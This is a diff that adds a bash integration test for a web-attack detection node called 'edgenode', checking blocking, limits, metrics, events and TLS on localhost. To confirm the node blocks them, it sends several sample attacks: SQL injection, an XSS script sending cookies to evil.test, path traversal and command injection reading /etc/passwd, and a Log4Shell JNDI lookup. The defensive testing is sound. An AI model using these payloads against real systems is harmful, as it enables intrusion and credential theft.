@@ -1,0 +1,116 @@
+#!/usr/bin/env bash
+# node-protocol.sh -- edgenode (ASan build) over HTTP with the shipped rules: protocol v1 statuses
+# and bodies, async, response reports, limits (413/431/400), metrics, events and TLS.
+set -u
+cd "$(dirname "$0")/../.."
+. tests/node/lib.sh
+trap finish EXIT
+
+P=$(free_port); A=$(free_port)
+cat >"$TMP/node.yaml" <<YAML
+listen: 127.0.0.1:$P
+admin_listen: 127.0.0.1:$A
+mode: block
+application: 7
+allowed_hosts: ["*.example.com", "127.0.0.1"]
+rules: $RULES
+events: $TMP/events.jsonl
+limits: {max_header_size: 8k, max_body_size: 64k}
+routes:
+  - host: "*.example.com"
+    path: /public
+    application: 9
+    mode: monitoring
+YAML
+start_node "$TMP/node.yaml" "$TMP/node.log" || exit 1
+U="http://127.0.0.1:$P"
+H=(-H "X-Forwarded-Host: api.example.com" -H "X-Connector: cloudflare/1.0.0" -H "X-Connector-Mode: inline")
+
+# pass and block, with the JSON body the connector may read
+b=$(body "$U/users?id=42&sort=name" "${H[@]}" -H "X-Connector-Request-Id: 0a1b2c")
+check "benign GET: body" '{"verdict":"pass","request_id":"0a1b2c"}' "$b"
+check "benign JSON POST" 200 "$(status "$U/orders" "${H[@]}" -H 'Content-Type: application/json' \
+  --data '{"item":"book","qty":2,"note":"please deliver before noon"}')"
+b=$(body "$U/search?q=1%27%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--" "${H[@]}" \
+  -H "X-Connector-Request-Id: feed01")
+contains "SQLi in query: verdict block" '"verdict":"block"' "$b"
+contains "SQLi in query: class" '"class":"sqli"' "$b"
+contains "SQLi in query: where" '"where":"query.q"' "$b"
+check "SQLi in query: status" 403 "$(status "$U/search?q=1%27%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--" "${H[@]}")"
+check "XSS in JSON body" 403 "$(status "$U/comments" "${H[@]}" -H 'Content-Type: application/json' \
+  --data '{"comment":"<script>document.location=\"http://evil.test/?c=\"+document.cookie</script>"}')"
+check "path traversal" 403 "$(status "$U/download?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd" "${H[@]}")"
+check "OS command injection in form" 403 "$(status "$U/ping" "${H[@]}" --data 'host=127.0.0.1;cat /etc/passwd')"
+check "Log4Shell in a header" 403 "$(status "$U/" "${H[@]}" -H 'X-Api-Version: ${jndi:ldap://evil.test/a}')"
+check "route in monitoring: attack passes" 200 "$(status "$U/public/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--" "${H[@]}")"
+
+# async copies and response reports
+check "async attack: 204" 204 "$(status "$U/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--" \
+  -H "X-Forwarded-Host: api.example.com" -H "X-Connector-Mode: async")"
+check "async benign: 204" 204 "$(status "$U/users" -H "X-Forwarded-Host: api.example.com" -H "X-Connector-Mode: async")"
+for s in 200 201 404 502 503; do
+  status "$U/users" "${H[@]}" -H "X-Connector-Message: response" -H "X-Connector-Response-Status: $s" >/dev/null
+done
+check "response report answered 200" 200 "$(status "$U/x" "${H[@]}" -H "X-Connector-Message: response" -H "X-Connector-Response-Status: 500")"
+
+# hosts and HTTP limits
+check "host outside allowed_hosts: 415" 415 "$(status "$U/search?q=1%27%20UNION%20SELECT%201--" -H "X-Forwarded-Host: evil.test")"
+contains "415 body names the host" '"host":"evil.test"' "$(body "$U/" -H "X-Forwarded-Host: evil.test")"
+head -c 70000 /dev/zero | tr '\0' 'a' >"$TMP/big"
+check "body over max_body_size: 413" 413 "$(status "$U/upload" "${H[@]}" --data-binary @"$TMP/big")"
+check "chunked body over the limit: 413" 413 "$(status "$U/upload" "${H[@]}" -H 'Transfer-Encoding: chunked' --data-binary @"$TMP/big")"
+long=$(head -c 12000 /dev/zero | tr '\0' 'b')
+check "headers over max_header_size: 431" 431 "$(status "$U/" "${H[@]}" -H "X-Long: $long")"
+raw=$( (exec 3<>"/dev/tcp/127.0.0.1/$P"; printf 'GET / HTTP/1.1\r\nHost: a\r\nBad Header Line\r\n\r\n' >&3; timeout 5 head -1 <&3) 2>/dev/null)
+contains "malformed request: 400" "400" "$raw"
+raw=$( (exec 3<>"/dev/tcp/127.0.0.1/$P"; printf 'GET / HTTP/1.1\r\n\r\n' >&3; timeout 5 head -1 <&3) 2>/dev/null)
+contains "HTTP/1.1 without Host: 400" "400" "$raw"
+check "still serving after bad requests" 200 "$(status "$U/users" "${H[@]}")"
+
+# admin listener
+check "/live" 200 "$(status "http://127.0.0.1:$A/live")"
+check "/ready" 200 "$(status "http://127.0.0.1:$A/ready")"
+check "admin unknown path: 404" 404 "$(status "http://127.0.0.1:$A/nope")"
+check "metrics: 5xx reports" 3 "$(metric "$A" 'edgenode_response_status_total{class="5xx"}')"
+check "metrics: 2xx reports" 2 "$(metric "$A" 'edgenode_response_status_total{class="2xx"}')"
+check "metrics: 4xx reports" 1 "$(metric "$A" 'edgenode_response_status_total{class="4xx"}')"
+check "metrics: async messages" 2 "$(metric "$A" 'edgenode_requests_total{type="async",mode="block"}')"
+check "metrics: blocked by attack" 6 "$(metric "$A" 'edgenode_blocked_total{reason="attack"}')"
+check "metrics: rejected by host" 2 "$(metric "$A" 'edgenode_rejected_total{reason="host"}')"
+check "metrics: sqli attacks on app 7" 3 "$(metric "$A" 'edgenode_attacks_total{class="sqli",application="7"}')"
+check "metrics: sqli attacks on app 9 (route)" 1 "$(metric "$A" 'edgenode_attacks_total{class="sqli",application="9"}')"
+check "metrics: 413 counted" 2 "$(metric "$A" 'edgenode_http_errors_total{status="413"}')"
+m=$(curl -s "http://127.0.0.1:$A/metrics")
+contains "metrics: build info" 'edgenode_build_info{version=' "$m"
+contains "metrics: latency histogram" 'edgenode_analysis_seconds_bucket{le="+Inf"}' "$m"
+contains "metrics: process CPU" 'process_cpu_seconds_total' "$m"
+contains "metrics: resident memory" 'process_resident_memory_bytes' "$m"
+
+# events: one JSON line per attack with every field
+ev="$TMP/events.jsonl"
+line=$(grep '"request_id":"feed01"' "$ev" | head -1)
+check "event: valid JSON with all fields" "true" "$(echo "$line" | jq -c 'has("time") and has("request_id") and has("connector") and has("application") and has("host") and has("client") and has("class") and has("rule") and has("where") and has("verdict")')"
+check "event: fields" "feed01 cloudflare/1.0.0 7 api.example.com 127.0.0.1 sqli query.q blocked" \
+  "$(echo "$line" | jq -r '[.request_id,.connector,.application,.host,.client,.class,.where,.verdict]|join(" ")')"
+check "event: monitoring route recorded as passed" "passed" "$(jq -r 'select(.application==9)|.verdict' "$ev" | head -1)"
+check "event: async recorded" "async" "$(jq -r 'select(.type=="async")|.type' "$ev" | head -1)"
+check "events: every line is JSON" 0 "$(jq -c . "$ev" >/dev/null 2>&1; echo $?)"
+
+stop_node "$NODE_PID"; check "SIGTERM: exit 0" 0 "$STOP_RC"
+if grep -q 'ERROR: \(Address\|Leak\)Sanitizer\|runtime error' "$TMP/node.log"; then bad "sanitizers clean" "$(cat "$TMP/node.log")"; else ok "sanitizers clean"; fi
+
+# TLS
+openssl req -x509 -newkey rsa:2048 -nodes -keyout "$TMP/key.pem" -out "$TMP/cert.pem" -days 2 \
+  -subj /CN=127.0.0.1 >/dev/null 2>&1
+P2=$(free_port)
+cat >"$TMP/tls.yaml" <<YAML
+listen: 127.0.0.1:$P2
+mode: block
+rules: $RULES
+tls: {cert: cert.pem, key: key.pem}
+YAML
+start_node "$TMP/tls.yaml" "$TMP/tls.log" || exit 1
+check "TLS: benign 200" 200 "$(status "https://127.0.0.1:$P2/users" -k)"
+check "TLS: attack 403" 403 "$(status "https://127.0.0.1:$P2/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--" -k)"
+check "TLS: plain HTTP refused" 000 "$(status "http://127.0.0.1:$P2/users")"
+stop_node "$NODE_PID"; check "TLS: SIGTERM exit 0" 0 "$STOP_RC"
